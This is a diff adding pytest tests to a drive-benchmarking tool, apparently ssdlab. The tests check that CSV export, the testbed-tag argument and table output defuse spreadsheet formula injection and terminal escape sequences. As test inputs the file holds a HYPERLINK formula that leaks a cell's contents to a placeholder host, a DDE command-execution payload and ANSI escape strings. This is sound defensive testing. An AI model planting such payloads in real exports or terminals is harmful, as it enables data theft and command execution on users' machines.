@@ -1,0 +1,58 @@
+"""Text that leaves ssdlab for a spreadsheet or a terminal cannot act there: a CSV cell
+starting with = + - @ is kept as text (a drive named `=HYPERLINK(...)` is not a formula),
+a --testbed tag with a newline or a terminal escape is refused before anything runs, and
+stored text printed in a table shows control characters as '?'."""
+
+from __future__ import annotations
+
+import csv
+import io
+import subprocess
+
+import clirun
+import pytest
+
+from ssdlab.cli.output import fmt
+from ssdlab.store import Store, csv_text
+
+FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
+
+
+@pytest.mark.parametrize("text, shown", [
+    (FORMULA, "'" + FORMULA), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
+    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("-1.5", "-1.5"), ("+3", "+3"), ("sim:tlc-256", "sim:tlc-256"),
+    (42, 42),
+])
+def test_csv_cells_never_start_a_formula(text, shown):
+    assert csv_text(text) == shown
+
+
+def test_an_exported_run_with_a_formula_for_a_drive_name_stays_text(tmp_path):
+    store = Store(tmp_path / "r.db")
+    rid = store.create_run("fill", {})
+    rd = store.add_drive(rid, 0, FORMULA, {"kind": "sim", "model": "m", "capacity": 1})
+    store.set_metrics(rd, {"avg_mbps": -1.5, "note": "=1+1"})
+    rows = list(csv.reader(io.StringIO(store.export_csv(rid))))
+    assert {r[1] for r in rows[1:]} == {"'" + FORMULA}
+    assert ["-1.5", "'=1+1"] == [r[7] for r in rows[1:]]
+
+
+@pytest.mark.parametrize("tag", ["lab\nFAKE LINE", "a\x1b[2J\x1b[31mred", "x" * 201])
+def test_a_testbed_tag_that_is_not_one_printable_line_is_refused(tmp_path, tag):
+    db = tmp_path / "r.db"
+    r = clirun.cli("run", "quick", "--drive", "sim:sn520-128", "--repeat", "1", "--testbed", tag, "--db", str(db))
+    assert r.returncode == 2 and r.stderr.count("\n") == 1 and "\x1b" not in r.stderr, r.stderr
+    assert "one line of at most 200" in r.stderr
+    assert not db.exists()
+
+
+def test_stored_text_printed_in_a_table_cannot_drive_the_terminal(tmp_path):
+    db = tmp_path / "r.db"
+    store = Store(db)
+    # a store written by an older version, or by hand
+    store.db.execute("INSERT INTO runs (test, created, status, methodology_version, testbed, tool_version, args)"
+                     " VALUES ('fill', 'now', 'complete', '1', ?, '0', '{}')", ("lab\x1b[2J\nFAKE",))
+    r = subprocess.run([*clirun.COMMAND, "results", "list", "--db", str(db)], capture_output=True, text=True,
+                       env=clirun.environ(), timeout=120)
+    assert r.returncode == 0 and "\x1b" not in r.stdout and "lab?[2J?FAKE" in r.stdout
+    assert fmt("a\x07b") == "a?b"
